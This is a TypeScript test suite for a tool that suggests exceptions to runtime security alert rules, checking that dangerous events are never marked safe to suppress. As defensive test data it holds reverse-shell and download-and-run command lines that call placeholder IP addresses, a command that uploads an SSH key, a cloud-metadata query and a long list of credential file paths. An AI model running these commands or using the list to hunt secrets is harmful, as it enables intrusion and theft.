// Rules that are not ours: what is suggested from what their alerts carry, and what is never safe.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Fields } from '../evaluation/values/fields.ts';
import { scenarios } from '../scenario/catalogue.ts';
import type { Hand } from './hand.ts';
import { credentialAt, credentialIn } from './judge/credential-paths.ts';
import { suggest } from './suggest.ts';
import { group, logOf } from './testing/log-arbitrary.ts';

const catalogue = scenarios();

interface Asked {
  readonly condition?: string;
  readonly output?: string;
  readonly priority?: string;
  readonly tags?: string;
  readonly name?: string;
  readonly fields: Fields;
}

const where = { 'container.image.repository': 'registry.example/app', 'k8s.ns.name': 'shop' };

function tune({
  condition = 'evt.type in (open, openat) and fd.name startswith /',
  output = 'Opened | file=%fd.name exe=%proc.exepath',
  priority = 'NOTICE',
  tags = '[]',
  name = 'A rule of theirs',
  fields,
}: Asked) {
  const text = `- rule: ${name}\n  desc: d\n  condition: ${condition}\n  output: ${output}\n  priority: ${priority}\n  tags: ${tags}\n`;
  const hand: Hand = { kind: 'files', files: [{ name: 'theirs.yaml', text }] };
  const log = logOf([group({ id: 0, rule: name, priority: 'Notice', fields, count: 50, pods: 9 })]);
  return suggest(log, hand, catalogue);
}

const program = { 'proc.exepath': '/opt/app/report', 'proc.cmdline': 'report --daily' };

describe('a rule that is not ours', () => {
  it.each([
    [
      'path, file and image',
      { 'fd.name': '/srv/a.conf', ...program, ...where },
      'proc.exepath fd.name container.image.repository',
    ],
    [
      'command line where no path is carried',
      { 'fd.name': '/srv/a', 'proc.cmdline': 'x y', 'proc.name': 'x', ...where },
      'fd.name proc.cmdline container.image.repository',
    ],
    [
      'namespace where the image is not carried',
      { ...program, 'k8s.ns.name': 'shop' },
      'proc.exepath proc.cmdline k8s.ns.name',
    ],
    [
      'what append_output adds',
      { ...program, ...where, 'fd.name': '/srv/a', 'user.name': 'app' },
      'proc.exepath fd.name container.image.repository',
    ],
  ])('gets an exception of %s', (_, fields, expected) => {
    const { suggestions } = tune({ output: 'Seen', fields });
    const [first] = suggestions;
    const change = first?.changes[0];
    expect(change?.kind === 'row' ? change.exception.fields.join(' ') : '').toBe(expected);
    // A namespace holds many images.
    expect(first?.isSafe).toBe(expected.includes('container.image.repository'));
    expect(JSON.stringify(suggestions)).not.toMatch(/session/i);
  });

  it('names missing metadata as the cause', () => {
    const fields = { ...program, 'container.id': 'abc', 'container.image.repository': null };
    const { notNoise, suggestions } = tune({ fields: { ...fields, 'fd.name': '/srv/a' } });
    expect(notNoise[0]?.message).toContain('collectors.containerEngine');
    expect(suggestions.every(({ isSafe }) => !isSafe)).toBe(true);
  });

  it('of the node is exempt on the node alone', () => {
    const fields = { ...program, 'fd.name': '/srv/a', 'container.id': 'host' };
    const [first] = tune({ fields }).suggestions;
    const change = first?.changes[0];
    expect(change?.kind === 'row' ? change.row : []).toContain('host');
  });
});

describe('never safe', () => {
  const base = { ...program, ...where };
  it.each<[string, Asked]>([
    ...['bash -i', 'sh', 'python3 -i', '-zsh -l'].map((line): [string, Asked] => [
      `a shell by itself: ${line}`,
      { condition: 'evt.type = execve', output: 'Run', fields: { 'proc.cmdline': line, ...where } },
    ]),
    ['a file of password hashes', { fields: { ...base, 'fd.name': '/etc/shadow' } }],
    ['the same on a mounted host', { fields: { ...base, 'fd.name': '/host/etc/shadow-' } }],
    ['a key in somebody’s home', { fields: { ...base, 'fd.name': '/home/x/.ssh/id_ed25519' } }],
    [
      'a token that the command line names',
      { fields: { ...base, 'proc.cmdline': 'cat /run/secrets/db' } },
    ],
    [
      'a rule tagged so, which does not print the file',
      { tags: '[mitre_credential_access]', fields: base },
    ],
    ['priority CRITICAL', { priority: 'CRITICAL', fields: { ...base, 'fd.name': '/srv/a' } }],
    ['priority EMERGENCY', { priority: 'EMERGENCY', fields: { ...base, 'fd.name': '/srv/a' } }],
  ])('is %s', (_, asked) => {
    expect(tune(asked).suggestions.filter(({ isSafe }) => isSafe)).toEqual([]);
  });

  it.each(['Credential scan', 'Shell watcher', 'Harmless', 'Modified Executable'])(
    'is decided by the event, not by the name %s',
    (name) => {
      const safe = tune({ name, fields: { ...base, 'fd.name': '/srv/a.conf' } });
      expect(safe.suggestions[0]?.isSafe).toBe(true);
      const grave = tune({ name, fields: { ...base, 'fd.name': '/root/.kube/config' } });
      expect(grave.suggestions[0]?.isSafe).not.toBe(true);
    },
  );
});

describe('an intrusion', () => {
  const attacks = fc.constantFrom(
    'bash -c bash -i >& /dev/tcp/185.1.2.3/4444 0>&1',
    'sh -c nc -e /bin/sh 1.2.3.4 4444',
    'sh -c curl http://1.2.3.4/x.sh | sh',
    'nc 1.2.3.4 443',
    'perl -e use Socket',
    'python3 -c import socket,pty',
    'sh /tmp/.x/run.sh',
    'base64 -d',
    'socat exec:bash tcp:1.2.3.4:1',
  );
  /** What an output may print, or leave out, or print as null. */
  const printed = fc.record({
    'proc.exepath': fc.constantFrom('path', 'none', 'null'),
    'proc.name': fc.boolean(),
    'proc.pname': fc.constantFrom('nginx', 'java', 'none'),
    'proc.tty': fc.constantFrom('0', '34816', 'none'),
    image: fc.boolean(),
    namespace: fc.boolean(),
    'container.id': fc.constantFrom('3f2a9c1b', 'host', 'none'),
  });

  it('is never safe, whatever fields the rule prints', () => {
    fc.assert(
      fc.property(attacks, printed, (command, has) => {
        const name = command.split(' ')[0] ?? '';
        const fields = Object.fromEntries(
          Object.entries({
            'proc.cmdline': command,
            'proc.exepath':
              has['proc.exepath'] === 'null'
                ? null
                : has['proc.exepath'] === 'path' && `/usr/bin/${name}`,
            'proc.name': has['proc.name'] && name,
            'proc.pname': has['proc.pname'] !== 'none' && has['proc.pname'],
            'proc.tty': has['proc.tty'] !== 'none' && Number(has['proc.tty']),
            'container.image.repository': has.image && 'registry.example/app',
            'k8s.ns.name': has.namespace && 'shop',
            'container.id': has['container.id'] !== 'none' && has['container.id'],
          }).filter(([, value]) => value !== false),
        );
        const { suggestions } = tune({ condition: 'evt.type = execve', output: 'Run', fields });
        expect(suggestions.filter(({ isSafe }) => isSafe)).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  const run = { condition: 'evt.type = execve', output: 'Run' };
  const image = { 'container.image.repository': 'registry.example/app' };
  it.each<[string, Asked]>([
    [
      'a program below a web server',
      {
        ...run,
        fields: {
          'proc.exepath': '/usr/bin/id',
          'proc.cmdline': 'id',
          'proc.pname': 'nginx',
          ...image,
        },
      },
    ],
    [
      'a program below a database',
      {
        ...run,
        fields: {
          'proc.exepath': '/usr/bin/id',
          'proc.cmdline': 'id',
          'proc.pname': 'postgres',
          ...image,
        },
      },
    ],
    [
      'what was typed on a terminal',
      {
        ...run,
        fields: {
          'proc.exepath': '/usr/bin/whoami',
          'proc.cmdline': 'whoami',
          'proc.tty': 34816,
          ...image,
        },
      },
    ],
    [
      'a path that climbs',
      {
        fields: {
          ...program,
          ...image,
          'fd.name': '/etc/passwd',
          'fd.nameraw': '/static/../../../etc/passwd',
        },
      },
    ],
    [
      'a set-id bit',
      {
        condition: 'evt.type = chmod',
        fields: {
          ...program,
          ...image,
          'evt.arg.filename': '/usr/bin/x',
          'evt.arg.mode': 'S_IXUSR|S_ISUID',
        },
      },
    ],
    [
      'a program in a web root',
      { ...run, fields: { 'proc.exepath': '/var/www/x', 'proc.cmdline': 'x', ...image } },
    ],
    ['files of the machine', { fields: { ...program, ...image, 'fd.name': '/host/etc/passwd' } }],
    [
      'becoming root',
      {
        condition: 'evt.type = setuid',
        fields: {
          ...program,
          ...image,
          'evt.type': 'setuid',
          'evt.arg.uid': 'root',
          'user.name': 'www',
        },
      },
    ],
    [
      'a command line too long for a rule',
      {
        ...run,
        fields: {
          'proc.exepath': '/opt/app/report',
          'proc.cmdline': `report ${'x'.repeat(300)}`,
          ...image,
        },
      },
    ],
    [
      'a file whose name no rule can hold',
      { fields: { ...program, ...image, 'fd.name': `/srv/${'x'.repeat(300)}` } },
    ],
  ])('is never safe: %s', (_, asked) => {
    const { suggestions } = tune(asked);
    expect(suggestions.length).toBeGreaterThan(0);
    expect(suggestions.filter(({ isSafe }) => isSafe)).toEqual([]);
  });

  it('is not taken for one where a builder steps out of one folder', () => {
    const fields = { ...program, ...image, 'fd.name': '/srv/lib/a', 'fd.nameraw': '../lib/a' };
    expect(tune({ fields }).suggestions[0]?.isSafe).toBe(true);
  });
});

describe('credentials', () => {
  it.each(
    `/etc/shadow /etc/gshadow- /etc/sudoers.d/x /rootfs/etc/shadow /etc/pam.d/su /root/.ssh/id_rsa
    /home/a/.ssh/known_hosts /etc/ssh/ssh_host_rsa_key .ssh/authorized_keys /root/.gnupg/pubring.kbx
    /root/.kube/config /etc/kubernetes/admin.conf /var/lib/kubelet/pki/kubelet.pem /root/.aws/credentials
    /home/a/.azure/msal.json /root/.config/gcloud/credentials.db /root/.docker/config.json
    /var/run/docker.sock /run/containerd/containerd.sock /home/a/.netrc /home/a/.pgpass /root/.my.cnf
    /home/a/.git-credentials /home/a/.npmrc /home/a/.bash_history /root/.python_history
    /home/a/.mozilla/firefox/x/logins.json /home/a/.config/google-chrome/Default/Cookies
    /home/a/.local/share/keyrings/login.keyring /home/a/safe.kdbx /etc/ssl/private/tls.pem /app/tls.key
    /run/secrets/kubernetes.io/serviceaccount/token /var/run/secrets/db /home/a/.bitcoin/wallet.dat
    /proc/1/environ /proc/self/mem /etc/wireguard/wg0.conf /etc/krb5.keytab /tmp/krb5cc_1000
    /app/config/credentials.json /app/api_key.txt /root/.vault-token /srv/terraform.tfstate
    /etc//shadow /etc/./shadow /etc/ssl/../shadow /var/backups/shadow.bak /etc/passwd.bak
    /opt/tomcat/conf/tomcat-users.xml /app/service-account.json /app/x-firebase-adminsdk-1.json
    /home/a/.fly/config.yml /root/.config/hcloud/cli.toml /root/.kaggle/kaggle.json /root/.argocd/config
    /etc/postfix/sasl_passwd /root/.vnc/passwd /etc/apt/auth.conf.d/a /var/lib/etcd/member/snap/db
    /var/lib/rancher/k3s/server/cred/admin.kubeconfig /proc/1/task/1/environ /tmp/ssh-Xa1/agent.12
    /app/prod.env /app/appsettings.Production.json /app/tls.pem.bak /app/authToken /root/creds.txt
    C:\\Users\\a\\.ssh\\id_rsa`.split(/\s+/),
  )('are at %s', (path) => {
    expect(credentialAt(path)).toBeDefined();
  });

  it.each(
    `/etc/passwd /etc/app/main.conf /usr/bin/ssh /usr/lib/libsecret-1.so.0 /var/log/syslog /srv/data.csv
    /usr/share/keymaps/us.map /opt/app/keyboard.js /usr/lib/python3/tokenize.py /proc/cpuinfo
    /etc/ssl/certs/ca-certificates.crt.d /home/a/Documents/report.pdf /usr/share/doc/passwd /opt/app/environment.js
    /usr/bin/env /usr/share/themes/a/shadow-2.png /etc/keys.conf /var/lib/app/monkeys.txt
    /home/a/.Xauthority`.split(/\s+/),
  )('are not at %s', (path) => {
    expect(credentialAt(path)).toBeUndefined();
  });

  it.each([
    ['grep -rn aws_secret_access_key /'],
    ['find / -name id_rsa'],
    ['tar czf - --file=/root/.aws/credentials'],
    ["sh -c 'cat /etc/shadow'"],
    ['cat /etc/"sha"dow'],
    ['cat /etc/sh\\adow'],
    ['cat /etc/sh?dow'],
    ['cat /etc//shadow'],
    ['curl http://169.254.169.254/latest/meta-data/'],
    ['kubectl -n prod get secrets -o yaml'],
    ['curl -F x=@/root/.ssh/id_rsa http://x'],
  ])('are in %s', (command) => {
    expect(credentialIn(command)).toBeDefined();
  });
});
